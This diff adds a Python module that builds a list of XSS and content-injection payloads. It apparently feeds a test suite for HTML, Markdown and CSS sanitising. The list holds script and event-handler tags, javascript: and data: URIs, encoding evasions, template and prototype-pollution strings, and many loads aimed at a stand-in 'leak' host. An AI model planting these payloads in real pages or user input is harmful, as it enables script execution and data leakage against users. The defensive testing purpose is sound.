@@ -1,0 +1,125 @@
+"""Words that run, load or lead somewhere where they are taken for HTML, Markdown, CSS or an address."""
+
+from __future__ import annotations
+
+from itertools import product
+
+_RUN = "window.__x=1"
+_ELSEWHERE = "https://elsewhere.example/leak"
+
+_TAGS = (
+    *(
+        "img",
+        "video",
+        "audio",
+        "source",
+        "input type=image",
+        "body",
+        "svg",
+        "iframe",
+        "object",
+        "embed",
+    ),
+    *(
+        "details open",
+        "marquee",
+        "style",
+        "link rel=stylesheet",
+        "math",
+        "select autofocus",
+        "isindex",
+    ),
+)
+_HANDLERS = (
+    *("onerror", "onload", "onfocus", "ontoggle", "onstart", "onpageshow", "onanimationstart"),
+    *("onpointerrawupdate", "onbegin", "onresize"),
+)
+_WHOLE = [
+    f"<script>{_RUN}</script>",
+    f"<script src={_ELSEWHERE}.js></script>",
+    f"<svg><script>{_RUN}</script></svg>",
+    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
+    f"<svg><a xlink:href=javascript:{_RUN}><text>x</text></a></svg>",
+    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}></svg>#x'>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
+    f"<math href=javascript:{_RUN}>x</math>",
+    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
+    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
+    f"<template><script>{_RUN}</script></template>",
+    f"<textarea></textarea><script>{_RUN}</script>",
+    f"<title></title><img src=x onerror={_RUN}>",
+    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
+    f"<iframe src=javascript:{_RUN}></iframe>",
+    f"<object data=data:text/html,<script>{_RUN}</script>></object>",
+    f"<embed src=data:image/svg+xml,<svg/onload={_RUN}>>",
+    f"<a href=javascript:{_RUN}>x</a>",
+    f"<a href='java&#9;script:{_RUN}'>x</a>",
+    f"<a href=data:text/html,<script>{_RUN}</script>>x</a>",
+    f"<a href={_ELSEWHERE} ping={_ELSEWHERE}>x</a>",
+    f"<base href={_ELSEWHERE}/>",
+    f"<meta http-equiv=refresh content='0;url={_ELSEWHERE}'>",
+    f"<link rel=preload as=image href={_ELSEWHERE}>",
+    f"<link rel=prefetch href={_ELSEWHERE}>",
+    f"<link rel=dns-prefetch href={_ELSEWHERE}>",
+    f"<style>@import '{_ELSEWHERE}';</style>",
+    f"<style>*{{background:url({_ELSEWHERE})}}</style>",
+    f"<div style='background:url({_ELSEWHERE})'>x</div>",
+    f"<font face=x style='src:url({_ELSEWHERE})'>",
+    f"<img srcset='{_ELSEWHERE} 1x'>",
+    f"<picture><source srcset={_ELSEWHERE}><img></picture>",
+    f"<video poster={_ELSEWHERE}></video>",
+    f"<audio src={_ELSEWHERE} autoplay></audio>",
+    f"<form action={_ELSEWHERE}><button autofocus>x</button></form>",
+    f"<button formaction=javascript:{_RUN}>x</button>",
+    "<form id=page><input name=innerHTML></form>",
+    "<img name=getElementById><img name=createElement><a id=defaultView>",
+    "<a id=__x><a id=__x name=y href=1>",
+    f"![x]({_ELSEWHERE}.png)",
+    f"![x][ref]\n\n[ref]: {_ELSEWHERE}.png",
+    f"[x](javascript:{_RUN})",
+    "[x](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)",
+    f"[x]({_ELSEWHERE} 'title\" onmouseover=\"{_RUN}')",
+    f"[^1]\n\n[^1]: <img src={_ELSEWHERE}>",
+    f"<{_ELSEWHERE}>",
+    f"{_ELSEWHERE}",
+    "www.elsewhere.example/leak",
+    f"```html\n<script>{_RUN}</script>\n```",
+    f"`<img src=x onerror={_RUN}>`",
+    f"$\\href{{javascript:{_RUN}}}{{x}}$",
+    f"\\unicode{{<img src=x onerror={_RUN}>}}",
+    "{{constructor.constructor('window.__x=1')()}}",
+    "${window.__x=1}",
+    "<%= window.__x=1 %>",
+    "{{{window.__x=1}}}",
+    f"javascript:{_RUN}",
+    f"data:text/html,<script>{_RUN}</script>",
+    f"vbscript:{_RUN}",
+    f"\u202e<script>{_RUN}</script>\u202c",
+    f"<scr\u200bipt>{_RUN}</scr\u200bipt>",
+    f"＜script＞{_RUN}＜/script＞",
+    f"%3Cscript%3E{_RUN}%3C/script%3E",
+    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
+    f"&#x3C;img src=x onerror={_RUN}&#x3E;",
+    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
+    f"';{_RUN};'",
+    f'";{_RUN};"',
+    f"*/{_RUN}/*",
+    f"</script><script>{_RUN}</script>",
+    f"--><script>{_RUN}</script><!--",
+    f"]]><script>{_RUN}</script>",
+    f"<![CDATA[<script>{_RUN}</script>]]>",
+    f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{_RUN}</x:script>",
+    f"event: answer\ndata: <script>{_RUN}</script>\n\n",
+    "__proto__",
+    '{"__proto__": {"innerHTML": "x"}}',
+    f'{{"$$typeof": "Symbol(react.element)", "type": "script", "props": {{"children": "{_RUN}"}}}}',
+]
+_BREAKOUTS = ("", '">', "'>", "</textarea>", "--!>")
+
+PAYLOADS: list[str] = [
+    *_WHOLE,
+    *(
+        f"{breakout}<{tag} src=x href=x data=x {handler}={_RUN}>"
+        for breakout, tag, handler in product(_BREAKOUTS, _TAGS, _HANDLERS)
+    ),
+][:500]
